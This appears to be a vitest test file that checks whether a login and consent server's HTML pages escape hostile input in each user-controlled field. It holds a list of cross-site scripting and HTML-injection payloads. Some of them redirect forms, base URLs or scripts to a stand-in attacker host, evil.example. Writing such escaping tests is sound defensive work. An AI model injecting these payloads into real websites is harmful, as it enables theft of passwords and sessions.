import { describe, expect, it } from 'vitest'
import { consentPage, errorPage, frontPage, plain, signInPage } from '../../src/serve/pages.js'
import { readMarkup, skeleton } from './pages-markup.js'
import { abroad, consent, error, front, signIn } from './pages-samples.js'

const PAYLOADS = [
  '<script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '" autofocus onfocus="alert(1)',
  "' onmouseover='alert(1)",
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  'javascript:alert(1)',
  '<form action="https://evil.example"><input name="password">',
  '</form><form action="https://evil.example">',
  '<input name="decision" value="approve">',
  '<button name="decision" value="approve">Deny</button>',
  '</label></fieldset></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<style>*{display:none}</style>',
  '<!-- hidden',
  '--><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;',
  '&',
  '&amp;&quot',
  '\\u003cscript\\u003e',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a payload against template engines
  '${alert(1)}',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '` onclick=alert(1) `',
  '<ScRiPt/src=//evil.example/a.js>',
]

type Field = [name: string, page: (text: string) => string, shown: (text: string) => string]
const whole = (text: string) => text
const most = (max: number) => (text: string) => plain(text, max)

const FIELDS: Field[] = [
  ['sign-in query', (query) => signInPage({ ...signIn, query }), whole],
  ['sign-in email', (email) => signInPage({ ...signIn, email }), most(254)],
  ['sign-in error', (text) => signInPage({ ...signIn, error: text }), whole],
  ['sign-in client name', (name) => signInPage({ ...signIn, client: { ...signIn.client, name } }), most(60)],
  ['sign-in client host', (host) => signInPage({ ...signIn, client: { ...signIn.client, host } }), most(300)],
  ['consent query', (query) => consentPage({ ...consent, query }), whole],
  ['consent csrf', (csrf) => consentPage({ ...consent, csrf }), whole],
  [
    'consent client name',
    (name) => consentPage({ ...consent, client: { ...consent.client, name } }),
    most(60),
  ],
  [
    'consent redirect host',
    (redirectHost) => consentPage({ ...consent, client: { ...consent.client, redirectHost } }),
    most(300),
  ],
  [
    'consent client page',
    (path) => consentPage({ ...consent, client: { ...consent.client, uri: `https://x/${path}` } }),
    (path) => plain(`https://x/${path}`, 100),
  ],
  [
    'consent person name',
    (name) => consentPage({ ...consent, person: { ...consent.person, name } }),
    most(80),
  ],
  [
    'consent person email',
    (email) => consentPage({ ...consent, person: { ...consent.person, email } }),
    most(254),
  ],
  [
    'consent organization',
    (name) => consentPage({ ...consent, organizations: [name, 'Northwind'] }),
    most(80),
  ],
  [
    'consent scope',
    (name) =>
      consentPage({
        ...consent,
        scopes: [
          { name, sentence: 'Reads.' },
          { name: 'b', sentence: '' },
        ],
      }),
    whole,
  ],
  [
    'consent sentence',
    (sentence) =>
      consentPage({
        ...consent,
        scopes: [
          { name: 'a', sentence },
          { name: 'b', sentence: '' },
        ],
      }),
    whole,
  ],
  ['error title', (title) => errorPage({ ...error, title }), whole],
  ['error message', (message) => errorPage({ ...error, message }), whole],
  ['error reference', (requestId) => errorPage({ ...error, requestId }), whole],
  ['front endpoint', (resource) => frontPage({ ...front, resource }), whole],
  ['front base URL', (backendUrl) => frontPage({ ...front, backendUrl }), whole],
  ['front version', (version) => frontPage({ ...front, version }), whole],
  ['front issuer', (issuer) => frontPage({ ...abroad, foreign: { ...abroad.foreign, issuer } }), whole],
  [
    'front scope',
    (name) => {
      const scopeNames = { ...abroad.foreign.scopeNames, 'tasks:read': name }
      return frontPage({ ...abroad, foreign: { ...abroad.foreign, scopeNames } })
    },
    whole,
  ],
  ['front demo email', (email) => frontPage({ ...front, demo: [{ email, password: 'p' }] }), whole],
  ['front demo password', (password) => frontPage({ ...front, demo: [{ email: 'e', password }] }), whole],
]

describe('hostile text', () => {
  it.each(FIELDS)('stays text in the %s', (_name, page, shown) => {
    const harmless = skeleton(page('harmless'))
    for (const payload of PAYLOADS) {
      const hostile = page(payload)
      expect(skeleton(hostile), payload).toEqual(harmless)
      const { text, tags } = readMarkup(hostile)
      const values = tags.flatMap(({ attributes }) => Object.values(attributes))
      expect([text, ...values].join('\n'), payload).toContain(shown(payload))
    }
  })
})
